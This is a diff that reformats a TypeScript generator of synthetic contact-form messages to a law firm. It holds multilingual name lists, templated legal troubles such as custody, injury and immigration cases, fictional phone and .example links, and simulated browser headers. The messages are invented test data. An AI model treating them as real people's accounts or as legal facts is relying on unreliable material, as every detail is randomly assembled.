@@ -93,9 +93,9 @@ const firstNames = (
   'Kayla Cody Brittany Earl Gladys Walter Mildred Zoe Ethan Noah Ava Priya Wei Grace Min-jun Naomi Eli Rivka Thuy Kwame Ngozi'
 ).split(' ');
 const lastNames = (
-  "Smith Johnson Williams Brown Jones Miller Davis Wilson Anderson Taylor Thomas Moore Jackson Martin Lee Thompson White Harris Clark " +
-  "Lewis Robinson Walker Young Allen King Wright Scott Hill Green Adams Nelson Baker Hall Campbell Mitchell Carter Roberts Phillips " +
-  "Evans Turner Parker Collins Edwards Stewart Morris Murphy Cook Rogers Morgan Cooper Peterson Reed Bailey Kelly Howard Ward Cox " +
+  'Smith Johnson Williams Brown Jones Miller Davis Wilson Anderson Taylor Thomas Moore Jackson Martin Lee Thompson White Harris Clark ' +
+  'Lewis Robinson Walker Young Allen King Wright Scott Hill Green Adams Nelson Baker Hall Campbell Mitchell Carter Roberts Phillips ' +
+  'Evans Turner Parker Collins Edwards Stewart Morris Murphy Cook Rogers Morgan Cooper Peterson Reed Bailey Kelly Howard Ward Cox ' +
   "Richardson Wood Watson Brooks Bennett Gray O'Brien McAllister Kowalczyk Schroeder Patel Nguyen Okafor Goldberg Van Dyke-Ross Cho Tran"
 ).split(' ');
 const spanishFirst = (
@@ -106,19 +106,37 @@ const spanishLast = (
   'Hernández García Martínez López González Pérez Rodríguez Sánchez Ramírez Cruz Flores Gómez Morales Vázquez Reyes Jiménez Torres Díaz ' +
   'Gutiérrez Ruiz Mendoza Aguilar Ortiz Castillo Chávez Rivera Orellana Zelaya Quispe Ajanel Guardado Peña Ulloa Montoya Bonilla Lemus'
 ).split(' ');
-const arabicFirst = 'أحمد محمد فاطمة علي زينب يوسف مريم خالد نور حسن سارة عمر ليلى إبراهيم هدى مصطفى رانيا سامي أمل طارق'.split(' ');
-const arabicLast = 'الحداد حسين العلي الخطيب محمود النجار إسماعيل الشامي عبدالله المصري السيد الجبوري صالح الزهراني قاسم بركات'.split(' ');
-const arabicLatin = 'Ahmed Mohamad Fatima Ali Zainab Yousef Mariam Khaled Noor Hassan Sara Omar Layla Ibrahim Huda Mustafa Rania Sami Amal Tarek'.split(' ');
-const arabicLatinLast = 'Haddad Hussein Alali Khatib Mahmoud Najjar Ismail Alshami Abdallah Almasri Elsayed Aljubouri Saleh Alzahrani Kassem Barakat'.split(' ');
+const arabicFirst =
+  'أحمد محمد فاطمة علي زينب يوسف مريم خالد نور حسن سارة عمر ليلى إبراهيم هدى مصطفى رانيا سامي أمل طارق'.split(' ');
+const arabicLast =
+  'الحداد حسين العلي الخطيب محمود النجار إسماعيل الشامي عبدالله المصري السيد الجبوري صالح الزهراني قاسم بركات'.split(
+    ' ',
+  );
+const arabicLatin =
+  'Ahmed Mohamad Fatima Ali Zainab Yousef Mariam Khaled Noor Hassan Sara Omar Layla Ibrahim Huda Mustafa Rania Sami Amal Tarek'.split(
+    ' ',
+  );
+const arabicLatinLast =
+  'Haddad Hussein Alali Khatib Mahmoud Najjar Ismail Alshami Abdallah Almasri Elsayed Aljubouri Saleh Alzahrani Kassem Barakat'.split(
+    ' ',
+  );
 
 const cities = (
   'Fresno,Tucson,Dayton,Omaha,Akron,Macon,Laredo,El Paso,Yonkers,Newark,Peoria,Boise,Modesto,Toledo,Mobile,Reno,Dearborn,Lowell,Tacoma,' +
   'Aurora,Plano,Provo,Duluth,Erie,Flint,Hialeah,Stockton,Bakersfield,Lancaster,Fort Wayne,Chula Vista,St. Paul,Baton Rouge,Paterson'
 ).split(',');
-const states = 'Texas,Ohio,Florida,Nevada,Georgia,Arizona,Oregon,Michigan,Illinois,Virginia,Colorado,Tennessee,New Jersey,Kentucky'.split(',');
-const streets = 'Maple,Oak,Washington,Third,Cedar,Elm,Lakeview,Mill,Church,Jefferson,Pine Ridge,Sunset,Franklin,Old Post,Harbor'.split(',');
+const states =
+  'Texas,Ohio,Florida,Nevada,Georgia,Arizona,Oregon,Michigan,Illinois,Virginia,Colorado,Tennessee,New Jersey,Kentucky'.split(
+    ',',
+  );
+const streets =
+  'Maple,Oak,Washington,Third,Cedar,Elm,Lakeview,Mill,Church,Jefferson,Pine Ridge,Sunset,Franklin,Old Post,Harbor'.split(
+    ',',
+  );
 const months = 'January,February,March,April,May,June,July,August,September,October,November,December'.split(',');
-const spanishMonths = 'enero,febrero,marzo,abril,mayo,junio,julio,agosto,septiembre,octubre,noviembre,diciembre'.split(',');
+const spanishMonths = 'enero,febrero,marzo,abril,mayo,junio,julio,agosto,septiembre,octubre,noviembre,diciembre'.split(
+  ',',
+);
 const weekdays = 'Monday,Tuesday,Wednesday,Thursday,Friday,Saturday,Sunday'.split(',');
 const companies = (
   'Brightway Logistics,Harlan Foods,Stonebridge Apartments,Cobalt Staffing,Meridian Freight,Pinnacle Roofing,Oakhurst Senior Living,' +
@@ -130,8 +148,14 @@ const mailHosts = (
   'proton.example,att.example,ymail.example,live.example,msn.example,mail.example'
 ).split(',');
 const areaCodes = '212,305,313,408,469,512,559,602,614,702,713,775,816,914,915,973'.split(',');
-const slugWords = 'crash,downtown,fire,layoffs,plant,school,police,city,council,verdict,bridge,storm,apartment,nurse,driver,strike'.split(',');
-const trades = 'summit,bluewater,redoak,precision,heritage,cornerstone,lonestar,pioneer,anchor,keystone,maplewood,granite'.split(',');
+const slugWords =
+  'crash,downtown,fire,layoffs,plant,school,police,city,council,verdict,bridge,storm,apartment,nurse,driver,strike'.split(
+    ',',
+  );
+const trades =
+  'summit,bluewater,redoak,precision,heritage,cornerstone,lonestar,pioneer,anchor,keystone,maplewood,granite'.split(
+    ',',
+  );
 
 /** Writes American phone numbers that are kept free for fiction, in the ways people type them. */
 function phone(dice: Dice): string {
@@ -163,7 +187,12 @@ const ordinals: Record<number, string> = { 1: 'st', 2: 'nd', 3: 'rd', 21: 'st', 
 function date(dice: Dice): string {
   const month = dice.between(1, 12);
   const ofMonth = dice.between(1, 28);
-  return dice.one([`${months[month - 1] ?? ''} ${ofMonth}`, `${month}/${ofMonth}`, `${month}/${ofMonth}/2${dice.between(4, 5)}`, `the ${ofMonth}${ordinals[ofMonth] ?? 'th'}`]);
+  return dice.one([
+    `${months[month - 1] ?? ''} ${ofMonth}`,
+    `${month}/${ofMonth}`,
+    `${month}/${ofMonth}/2${dice.between(4, 5)}`,
+    `the ${ofMonth}${ordinals[ofMonth] ?? 'th'}`,
+  ]);
 }
 
 /**
@@ -192,7 +221,8 @@ function write(dice: Dice, template: string, own: Record<string, string> = {}): 
     nombre: () => dice.one(spanishFirst),
     company: () => dice.one(companies),
     phone: () => phone(dice),
-    case: () => `${dice.one(['24', '25', '2025', '2024'])}-${dice.one(['CV', 'FA', 'DR', 'CR', 'PR'])}-${dice.digits(dice.between(4, 6))}`,
+    case: () =>
+      `${dice.one(['24', '25', '2025', '2024'])}-${dice.one(['CV', 'FA', 'DR', 'CR', 'PR'])}-${dice.digits(dice.between(4, 6))}`,
     code: () => dice.code(dice.between(8, 22)),
     digits: () => dice.digits(dice.between(6, 12)),
     slug: () => `${dice.one(slugWords)}-${dice.one(slugWords)}-${dice.digits(4)}`,
@@ -229,25 +259,25 @@ const areas: Record<string, { troubles: string[]; details: string[] }> = {
       'He keeps showing up at my work even after I told him to stop. I have the texts, the voicemails, everything.',
       'My wife took the children to her parents in <state> without telling me and put them in school there.',
       'I want to adopt my stepson <name>. His {dad|biological father} has not called since <year>.',
-      "My fiancé asked for a prenup and his lawyer sent over a draft of <m> pages. The wedding is <date>.",
+      'My fiancé asked for a prenup and his lawyer sent over a draft of <m> pages. The wedding is <date>.',
       "There's a paternity hearing on <date> and I honestly don't know if the baby is mine.",
       'The mother of my <age> year old is moving to <state> for a job and I found out from my kid.',
       'Judge <surname> ordered mediation but I cannot sit in a room with {him|her} again.',
       'My name is still on the mortgage of the house my ex got in the divorce and they stopped paying in <month>.',
       'The decree says I get half the pension but nobody ever sent the order to the plan. That was <year>.',
-      "CPS came to our house on <weekday> because of a bruise from soccer practice. They want me to sign a safety plan.",
+      'CPS came to our house on <weekday> because of a bruise from soccer practice. They want me to sign a safety plan.',
       'my bf and i were never married, we have a <age> yr old, do i need to file something to have custody or do i have it',
       'I am a man and I am the one being hit. I need a protective order and I feel stupid asking.',
     ],
     details: [
-      "We were married {for <m> years|in <year>|in Las Vegas}. No prenup.",
+      'We were married {for <m> years|in <year>|in Las Vegas}. No prenup.',
       'There is a hearing on <date>, case <case>.',
       'The kids are <n> and <age>. They are in therapy since the spring.',
       'I make about <money> a {month|year}; {he|she} will not say what {he|she} makes.',
       'My mother-in-law is the one pushing all this.',
       "I've tried to talk. Last time {he|she} hung up and blocked me.",
       'We have a house, two cars, a 401k and a dog we both want. The dog matters.',
-      "{He|She} already has a lawyer, some guy named <surname> in <city>.",
+      '{He|She} already has a lawyer, some guy named <surname> in <city>.',
       'I have not filed anything yet because I was hoping we would fix it.',
     ],
   },
@@ -265,7 +295,7 @@ const areas: Record<string, { troubles: string[]; details: string[] }> = {
       'Fell on a wet floor at {the grocery store on <street>|<company>} and broke my {wrist|hip|ankle}. No cone, no sign, nothing.',
       'A dog at <house> <street> St bit my <age> year old {on the face|in the leg}. <m> stitches.',
       'My mother (<elder>) got bed sores at <company> and nobody there told us until she was in the ER.',
-      "A <company> truck side-swiped me on the interstate and my car is totaled. The adjuster offered <money> and wants a release signed by <weekday>.",
+      'A <company> truck side-swiped me on the interstate and my car is totaled. The adjuster offered <money> and wants a release signed by <weekday>.',
       'I had surgery in <month> and they left {a sponge|part of a drain} inside. Second surgery is next week.',
       'Uber driver ran a red light with me in the back seat. Which insurance pays for this?',
       'my brother was killed on his motorcycle <date> by a drunk driver, the family asked me to find someone',
@@ -274,10 +304,10 @@ const areas: Record<string, { troubles: string[]; details: string[] }> = {
       'Pedestrian hit in a crosswalk, that was me, three weeks ago. Concussion and I lose words mid sente... sentence.',
       'The hair relaxer I used for <m> years, I now have the cancer they talk about on TV.',
       'Exploding e-bike battery burned down our garage and my hands.',
-      "The hospital discharged my dad with chest pain and he passed {that night|<n> hours later}. He was <elder>.",
+      'The hospital discharged my dad with chest pain and he passed {that night|<n> hours later}. He was <elder>.',
       'Got food poisoning at a wedding, <m> guests were sick, I was in the hospital for <n> days.',
       'My landlord never fixed the stairs, I told him four times in writing, now my knee is done.',
-      "Bus door closed on my arm and the driver drove on for half a block. There must be video.",
+      'Bus door closed on my arm and the driver drove on for half a block. There must be video.',
     ],
     details: [
       'I have pictures of everything and the police report number is <digits>.',
@@ -533,13 +563,13 @@ const areas: Record<string, { troubles: string[]; details: string[] }> = {
       'Reporter with the Valley Courier here. Would one of your lawyers comment on the new eviction rule? Deadline is <time> today.',
       'A contractor took <money> down for our kitchen, demolished it and disappeared.',
       'My HOA fines me for a ramp that I need for my wheelchair.',
-      'Creditors garnished my wages for a debt that is my brother\'s, same initials. I want to know about bankruptcy too.',
-      'The airline lost my late husband\'s ashes. I do not even know what kind of lawyer that is.',
+      "Creditors garnished my wages for a debt that is my brother's, same initials. I want to know about bankruptcy too.",
+      "The airline lost my late husband's ashes. I do not even know what kind of lawyer that is.",
       'Social Security says I was overpaid <money> and will stop my check in <month>.',
       'I was denied disability for the second time. 60 days to appeal I believe.',
       'Neighbor cut down our oak. It was <elder> years old. Surveyor says it stood on our side.',
       'You sent me a bill for <money> that I already paid in <month>, please check.',
-      'The school will not follow my son\'s IEP and suspended him for the <n>th time.',
+      "The school will not follow my son's IEP and suspended him for the <n>th time.",
     ],
     details: [
       'I am a veteran, retired, on a fixed income.',
@@ -554,44 +584,195 @@ const areas: Record<string, { troubles: string[]; details: string[] }> = {
 };
 
 const openings = [
-  'Hi,', 'Hello.', 'Good morning,', 'Good afternoon', 'To whom it may concern:', 'Hi there!', 'Dear attorney,', 'Hello, my name is <me>.', 'Hey', '<me> here.', 'This is <me> <family>.',
-  'Dear Sir or Madam,', 'Greetings,', 'Hi I found you {on Google|through my cousin|on the bar website|in the phone book}.', '', '', '', '', '', '', '',
-  'I hope you can help me.', 'Not sure if you handle this.', 'I was referred by {a friend|<name> <surname>|my doctor|my union|the court clerk}.',
-  'Sorry if this is the wrong place.', 'OK so.', 'Urgent please read', 'Question for you.', 'Writing on behalf of my {mother|son|neighbor|boss}.',
+  'Hi,',
+  'Hello.',
+  'Good morning,',
+  'Good afternoon',
+  'To whom it may concern:',
+  'Hi there!',
+  'Dear attorney,',
+  'Hello, my name is <me>.',
+  'Hey',
+  '<me> here.',
+  'This is <me> <family>.',
+  'Dear Sir or Madam,',
+  'Greetings,',
+  'Hi I found you {on Google|through my cousin|on the bar website|in the phone book}.',
+  '',
+  '',
+  '',
+  '',
+  '',
+  '',
+  '',
+  'I hope you can help me.',
+  'Not sure if you handle this.',
+  'I was referred by {a friend|<name> <surname>|my doctor|my union|the court clerk}.',
+  'Sorry if this is the wrong place.',
+  'OK so.',
+  'Urgent please read',
+  'Question for you.',
+  'Writing on behalf of my {mother|son|neighbor|boss}.',
 ];
 const asks = [
-  'Do I have a case?', 'What would it cost me?', 'Please call me at <number>{ after <time>|}.', 'Is the first consultation free?',
-  'Can someone call me back {today|this week|before <weekday>}?', 'I want to know my options.', 'Do you take cases like this?', 'When could I come in?',
-  'How long do I have to file?', 'Do you do payment plans?', 'I need a lawyer who will pick up the phone.', 'Email is better than phone for me.',
-  'Please do NOT leave a voicemail, {he|she} checks my phone.', 'Would appreciate any help or a referral.', 'Can we do this by video?',
-  'Is it too late?', 'What should I bring?', 'Is this something you work on contingency?', 'I can come by {<weekday>|any morning|on my lunch break}.',
-  'Should I sign or not?', 'Do you have somebody who speaks {Spanish|Arabic|Mandarin|Tagalog}?', 'Please advise.', 'What happens next?', 'Need representation asap.',
-  'You can reach me at <number> or at my sister\'s, <phone>.', 'Just tell me honestly if it\'s worth it.', 'Looking to hire someone by <date>.', '', '', '',
+  'Do I have a case?',
+  'What would it cost me?',
+  'Please call me at <number>{ after <time>|}.',
+  'Is the first consultation free?',
+  'Can someone call me back {today|this week|before <weekday>}?',
+  'I want to know my options.',
+  'Do you take cases like this?',
+  'When could I come in?',
+  'How long do I have to file?',
+  'Do you do payment plans?',
+  'I need a lawyer who will pick up the phone.',
+  'Email is better than phone for me.',
+  'Please do NOT leave a voicemail, {he|she} checks my phone.',
+  'Would appreciate any help or a referral.',
+  'Can we do this by video?',
+  'Is it too late?',
+  'What should I bring?',
+  'Is this something you work on contingency?',
+  'I can come by {<weekday>|any morning|on my lunch break}.',
+  'Should I sign or not?',
+  'Do you have somebody who speaks {Spanish|Arabic|Mandarin|Tagalog}?',
+  'Please advise.',
+  'What happens next?',
+  'Need representation asap.',
+  "You can reach me at <number> or at my sister's, <phone>.",
+  "Just tell me honestly if it's worth it.",
+  'Looking to hire someone by <date>.',
+  '',
+  '',
+  '',
 ];
 const goodbyes = [
-  'Thanks', 'Thank you!', 'Thank you for your time,\n<me>', 'God bless', 'Best,\n<me> <family>', 'Regards', 'ty', 'Sincerely,\n<me> <family>\n<number>',
-  'Thanks in advance.', 'Respectfully', '', '', '', '', '', '', 'Sent from my iPhone', 'Sent from my Galaxy', 'Have a blessed day', 'Appreciate it.',
+  'Thanks',
+  'Thank you!',
+  'Thank you for your time,\n<me>',
+  'God bless',
+  'Best,\n<me> <family>',
+  'Regards',
+  'ty',
+  'Sincerely,\n<me> <family>\n<number>',
+  'Thanks in advance.',
+  'Respectfully',
+  '',
+  '',
+  '',
+  '',
+  '',
+  '',
+  'Sent from my iPhone',
+  'Sent from my Galaxy',
+  'Have a blessed day',
+  'Appreciate it.',
 ];
 const shorts = [
-  'please call me', 'Call me <number>', 'need a lawyer', 'divorce', 'How much for a will?', 'Car accident <date>', 'Need help with custody asap', 'call me back pls',
-  'Free consultation?', 'DUI last night', 'Do you handle evictions', 'Are you open on <weekday>?', 'I got fired.', 'Green card question', 'Hi', 'hello?',
-  'I would like to make an appointment.', 'Do you speak Spanish?', 'Need an expungement', 'my dad died', 'name change for my kid', 'traffic ticket <city>',
-  'Returning your call', 'Returning a call from <name>', 'Hit by a car. Call <number>', 'Do you take workers comp?', 'help', 'Help!!!', 'Bankruptcy ch 7',
-  'Please call after <time>', 'restraining order', 'slip and fall', 'work visa', 'Looking for a probate attorney in <city>', 'Prenup', 'wrongful termination',
-  'Contract review, <n> pages', 'Consult please', 'Landlord problem', 'child support mod', 'I need to speak with somebody about my mother', '?', 'testing is this on',
-  'LLC setup', 'How do I fire my current lawyer', 'same as before, <me>', 'Got served', 'appointment <weekday> <time> ok?', 'question about my case', 'Notary?',
-  'adoption', 'do u do immigration', 'Power of attorney for my mom', 'speeding 94 in 70', 'denied SSDI', 'what are ur fees', 'text me dont call', 'dog bite',
-  'Trust', 'Need a second opinion', 'how late are you there today', 'it is about a house', 'Hurt at work', 'want to sue my employer', 'is this confidential',
-  'Fender bender, other guy’s insurance is being weird', 'I have court tomorrow', 'court <date> need someone', 'can you get my license back', 'asap please 🙏',
-  'Call me 😭', '👍 yes <weekday> works', 'police took my car', 'nursing home neglect', 'Ex moved w kids', 'unpaid wages', 'mold', 'my visa expires in <month>',
+  'please call me',
+  'Call me <number>',
+  'need a lawyer',
+  'divorce',
+  'How much for a will?',
+  'Car accident <date>',
+  'Need help with custody asap',
+  'call me back pls',
+  'Free consultation?',
+  'DUI last night',
+  'Do you handle evictions',
+  'Are you open on <weekday>?',
+  'I got fired.',
+  'Green card question',
+  'Hi',
+  'hello?',
+  'I would like to make an appointment.',
+  'Do you speak Spanish?',
+  'Need an expungement',
+  'my dad died',
+  'name change for my kid',
+  'traffic ticket <city>',
+  'Returning your call',
+  'Returning a call from <name>',
+  'Hit by a car. Call <number>',
+  'Do you take workers comp?',
+  'help',
+  'Help!!!',
+  'Bankruptcy ch 7',
+  'Please call after <time>',
+  'restraining order',
+  'slip and fall',
+  'work visa',
+  'Looking for a probate attorney in <city>',
+  'Prenup',
+  'wrongful termination',
+  'Contract review, <n> pages',
+  'Consult please',
+  'Landlord problem',
+  'child support mod',
+  'I need to speak with somebody about my mother',
+  '?',
+  'testing is this on',
+  'LLC setup',
+  'How do I fire my current lawyer',
+  'same as before, <me>',
+  'Got served',
+  'appointment <weekday> <time> ok?',
+  'question about my case',
+  'Notary?',
+  'adoption',
+  'do u do immigration',
+  'Power of attorney for my mom',
+  'speeding 94 in 70',
+  'denied SSDI',
+  'what are ur fees',
+  'text me dont call',
+  'dog bite',
+  'Trust',
+  'Need a second opinion',
+  'how late are you there today',
+  'it is about a house',
+  'Hurt at work',
+  'want to sue my employer',
+  'is this confidential',
+  'Fender bender, other guy’s insurance is being weird',
+  'I have court tomorrow',
+  'court <date> need someone',
+  'can you get my license back',
+  'asap please 🙏',
+  'Call me 😭',
+  '👍 yes <weekday> works',
+  'police took my car',
+  'nursing home neglect',
+  'Ex moved w kids',
+  'unpaid wages',
+  'mold',
+  'my visa expires in <month>',
 ];
 const events = [
-  'I called them and they said to wait.', 'got the letter (certified mail)', 'went to the ER, waited <n> hours', 'texted {him|her|them}, no answer',
-  'first appointment with Dr. <surname>', 'filed the form online, confirmation <digits>', 'they sent {someone|two men} to the house', 'paid <money>, have the receipt',
-  'spoke to a supervisor named <name>', 'found out about the other account', 'police came, report taken by Officer <surname>', 'the second letter, with a different amount',
-  'hearing was moved', '{he|she} admitted it in front of my sister', 'sent an email, read receipt the same day', 'went back there with my brother-in-law',
-  'lost my job over all this', 'they changed the locks', 'got a voicemail at <time>, saved it', 'asked for the file, was told there is no file',
-  'my blood pressure was 180', 'signed something on a tablet, no copy given', 'the insurance closed the claim', 'took pictures, about <m> of them',
+  'I called them and they said to wait.',
+  'got the letter (certified mail)',
+  'went to the ER, waited <n> hours',
+  'texted {him|her|them}, no answer',
+  'first appointment with Dr. <surname>',
+  'filed the form online, confirmation <digits>',
+  'they sent {someone|two men} to the house',
+  'paid <money>, have the receipt',
+  'spoke to a supervisor named <name>',
+  'found out about the other account',
+  'police came, report taken by Officer <surname>',
+  'the second letter, with a different amount',
+  'hearing was moved',
+  '{he|she} admitted it in front of my sister',
+  'sent an email, read receipt the same day',
+  'went back there with my brother-in-law',
+  'lost my job over all this',
+  'they changed the locks',
+  'got a voicemail at <time>, saved it',
+  'asked for the file, was told there is no file',
+  'my blood pressure was 180',
+  'signed something on a tablet, no copy given',
+  'the insurance closed the claim',
+  'took pictures, about <m> of them',
 ];
 const afterthoughts = [
   'I should add that I did not sleep for most of this, so forgive me if I get a date wrong. I wrote them on the calendar in the kitchen but the calendar for last year is gone.',
@@ -609,7 +790,7 @@ const afterthoughts = [
 const evidence = [
   'Pictures of the {car|damage|stairs|wound} are here: https://photos.example/album/<code>',
   'docket is at https://www.courts.example/case/<case>',
-  "the listing is still up: https://homes.example/listing/<digits>",
+  'the listing is still up: https://homes.example/listing/<digits>',
   'It was in the news, www.valleycourier.example/local/<slug>',
   'The contract is in our drive: https://drive.example/file/d/<code>/view?usp=sharing',
   'his post, before he deletes it: https://m.facebook-like.example/story.php?id=<digits>',
@@ -632,7 +813,20 @@ const quotes = [
   'FW: notice\n>> Balance due <money>\n>> pay at https://pay.<trade>.example/invoice/<digits>\n> I told them this is not mine',
 ];
 
-const spanishOpenings = ['Hola,', 'Buenas tardes.', 'Buenos días,', 'Buenas', 'Hola buenas tardes disculpe la molestia', 'Saludos.', 'Dios los bendiga.', '', '', '', 'Me llamo <me>.', 'Hola licenciado'];
+const spanishOpenings = [
+  'Hola,',
+  'Buenas tardes.',
+  'Buenos días,',
+  'Buenas',
+  'Hola buenas tardes disculpe la molestia',
+  'Saludos.',
+  'Dios los bendiga.',
+  '',
+  '',
+  '',
+  'Me llamo <me>.',
+  'Hola licenciado',
+];
 const spanishTroubles = [
   'mi hermana limpia casas y la señora la acusa de robar un anillo, la policía ya vino {dos|tres} veces',
   'Soy chofer de {troca|camión}, me dieron por detrás en el 10, me duele el cuello y la cintura.',
@@ -677,19 +871,61 @@ const spanishTroubles = [
   'Compré un carro en <company> y me lo quitaron estando al corriente.',
 ];
 const spanishDetails = [
-  'Tengo fotos y {testigos|el reporte de policía}.', 'Mi número es <number>.', 'Trabajo de noche, llamen antes de las 3.', 'No tengo antecedentes.', 'Hablo poquito inglés.',
-  'Vivo en <city>, por la {calle|avenida} <street>.', 'Me recomendó una {amiga|señora de la iglesia|clienta de ustedes}.', 'Ya tengo <n> meses esperando.', 'La corte es el <n> de <mes>.', '', '', '',
+  'Tengo fotos y {testigos|el reporte de policía}.',
+  'Mi número es <number>.',
+  'Trabajo de noche, llamen antes de las 3.',
+  'No tengo antecedentes.',
+  'Hablo poquito inglés.',
+  'Vivo en <city>, por la {calle|avenida} <street>.',
+  'Me recomendó una {amiga|señora de la iglesia|clienta de ustedes}.',
+  'Ya tengo <n> meses esperando.',
+  'La corte es el <n> de <mes>.',
+  '',
+  '',
+  '',
 ];
 const spanishAsks = [
-  '¿Me pueden ayudar?', '¿Cuánto cuesta la consulta?', 'Llámenme por favor.', 'Gracias, espero su respuesta.', 'Necesito una cita urgente.', '¿Hay alguien que hable español?', 'grasias',
-  'Mil gracias.', '¿Aceptan pagos?', 'Dígame qué papeles llevo.', 'Por favor es urgente 🙏', 'que dios los bendiga', '',
+  '¿Me pueden ayudar?',
+  '¿Cuánto cuesta la consulta?',
+  'Llámenme por favor.',
+  'Gracias, espero su respuesta.',
+  'Necesito una cita urgente.',
+  '¿Hay alguien que hable español?',
+  'grasias',
+  'Mil gracias.',
+  '¿Aceptan pagos?',
+  'Dígame qué papeles llevo.',
+  'Por favor es urgente 🙏',
+  'que dios los bendiga',
+  '',
 ];
 const spanishShorts = [
-  'llámeme por favor', 'Necesito abogado', 'accidente de carro', 'ayuda con asilo', 'cuánto cobran x divorcio', 'me pueden marcar al <number>', 'Hablan español?', 'Consulta de inmigracion',
-  'ocupo una cita', 'me chocaron', 'Buenas tardes una pregunta', 'permiso de trabajo', 'custodia', 'información por favor',
+  'llámeme por favor',
+  'Necesito abogado',
+  'accidente de carro',
+  'ayuda con asilo',
+  'cuánto cobran x divorcio',
+  'me pueden marcar al <number>',
+  'Hablan español?',
+  'Consulta de inmigracion',
+  'ocupo una cita',
+  'me chocaron',
+  'Buenas tardes una pregunta',
+  'permiso de trabajo',
+  'custodia',
+  'información por favor',
 ];
 
-const arabicOpenings = ['السلام عليكم', 'مرحبا،', 'تحية طيبة وبعد،', 'السلام عليكم ورحمة الله وبركاته', 'صباح الخير', 'لو سمحت', '', ''];
+const arabicOpenings = [
+  'السلام عليكم',
+  'مرحبا،',
+  'تحية طيبة وبعد،',
+  'السلام عليكم ورحمة الله وبركاته',
+  'صباح الخير',
+  'لو سمحت',
+  '',
+  '',
+];
 const arabicTroubles = [
   'جاري رفع علي دعوى بسبب السور ووصلتني ورقة من المحكمة رقمها <case>.',
   'والدتي عمرها <elder> سنة وسقطت في دار الرعاية ولم يخبرونا إلا بعد يومين.',
@@ -715,8 +951,15 @@ const arabicTroubles = [
   'رفضوا طلب الجنسية لأني سافرت أكثر من ستة أشهر، هل أستطيع الاستئناف؟',
 ];
 const arabicAsks = [
-  'أرجو الاتصال بي على الرقم <number>', 'كم تكلفة الاستشارة؟', 'شكراً جزيلاً', 'هل عندكم مترجم؟', 'أرجو الرد في أقرب وقت وجزاكم الله خيراً', 'متى أستطيع الحضور إلى المكتب؟',
-  'وشكرا لكم', 'لا أتكلم الإنجليزية جيداً، أرسلوا لي رسالة من فضلكم.', 'هل الاستشارة الأولى مجانية؟',
+  'أرجو الاتصال بي على الرقم <number>',
+  'كم تكلفة الاستشارة؟',
+  'شكراً جزيلاً',
+  'هل عندكم مترجم؟',
+  'أرجو الرد في أقرب وقت وجزاكم الله خيراً',
+  'متى أستطيع الحضور إلى المكتب؟',
+  'وشكرا لكم',
+  'لا أتكلم الإنجليزية جيداً، أرسلوا لي رسالة من فضلكم.',
+  'هل الاستشارة الأولى مجانية؟',
 ];
 
 interface Tongue {
@@ -846,13 +1089,19 @@ const tongues: Tongue[] = [
     languages: 'so-SO,so;q=0.9,en;q=0.7',
     first: ['Abdi', 'Hodan'],
     last: ['Warsame', 'Farah'],
-    messages: ['Asc, waxaan rabaa qareen sharciga socdaalka. Waxaan joogaa <city>. Fadlan i soo wac <number>.', 'shil gaari ayaan galay <date>, ma i caawin kartaan'],
+    messages: [
+      'Asc, waxaan rabaa qareen sharciga socdaalka. Waxaan joogaa <city>. Fadlan i soo wac <number>.',
+      'shil gaari ayaan galay <date>, ma i caawin kartaan',
+    ],
   },
   {
     languages: 'pl-PL,pl;q=0.9,en;q=0.6',
     first: ['Agnieszka', 'Marek'],
     last: ['Wójcik', 'Zieliński'],
-    messages: ['Dzień dobry, miałem wypadek na budowie w <city>, spadłem z rusztowania. Proszę o telefon <number>, po polsku jeśli można.', 'Chcę zapytać o rozwód, mąż wrócił do Polski w <year> roku.'],
+    messages: [
+      'Dzień dobry, miałem wypadek na budowie w <city>, spadłem z rusztowania. Proszę o telefon <number>, po polsku jeśli można.',
+      'Chcę zapytać o rozwód, mąż wrócił do Polski w <year> roku.',
+    ],
   },
 ];
 
@@ -867,11 +1116,17 @@ interface Browser {
   recent: boolean;
 }
 
-const acceptChrome = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7';
+const acceptChrome =
+  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7';
 const acceptPlain = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8';
 const zstd = 'gzip, deflate, br, zstd';
 
-function chrome(dice: Dice, system: 'windows' | 'mac' | 'android' | 'chromebook', brand: 'Google Chrome' | 'Microsoft Edge' | 'Brave' = 'Google Chrome', version = dice.between(128, 141)): Browser {
+function chrome(
+  dice: Dice,
+  system: 'windows' | 'mac' | 'android' | 'chromebook',
+  brand: 'Google Chrome' | 'Microsoft Edge' | 'Brave' = 'Google Chrome',
+  version = dice.between(128, 141),
+): Browser {
   const platform = {
     windows: ['Windows NT 10.0; Win64; x64', '"Windows"'],
     mac: ['Macintosh; Intel Mac OS X 10_15_7', '"macOS"'],
@@ -909,14 +1164,28 @@ function safari(dice: Dice, phoneOrMac: 'iPhone' | 'iPad' | 'Mac'): Browser {
 }
 
 function firefox(dice: Dice, system: string, version = dice.between(128, 144)): Browser {
-  return { agent: `Mozilla/5.0 (${system}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`, accept: acceptPlain, encoding: zstd, recent: version >= 90 };
+  return {
+    agent: `Mozilla/5.0 (${system}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`,
+    accept: acceptPlain,
+    encoding: zstd,
+    recent: version >= 90,
+  };
 }
 
 /** The browsers inside apps, from which links in posts and ads are opened. */
 function inApp(dice: Dice): Browser {
   if (dice.chance(0.5)) {
-    const app = dice.one(['[FBAN/FBIOS;FBAV/490.0.0.39.106;FBDV/iPhone14,5]', 'Instagram 348.0.0.21.98 (iPhone15,2; iOS 17_5; en_US)', 'GSA/335.0.675']);
-    return { agent: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 ${app}`, accept: acceptPlain, encoding: 'gzip, deflate, br', recent: true };
+    const app = dice.one([
+      '[FBAN/FBIOS;FBAV/490.0.0.39.106;FBDV/iPhone14,5]',
+      'Instagram 348.0.0.21.98 (iPhone15,2; iOS 17_5; en_US)',
+      'GSA/335.0.675',
+    ]);
+    return {
+      agent: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 ${app}`,
+      accept: acceptPlain,
+      encoding: 'gzip, deflate, br',
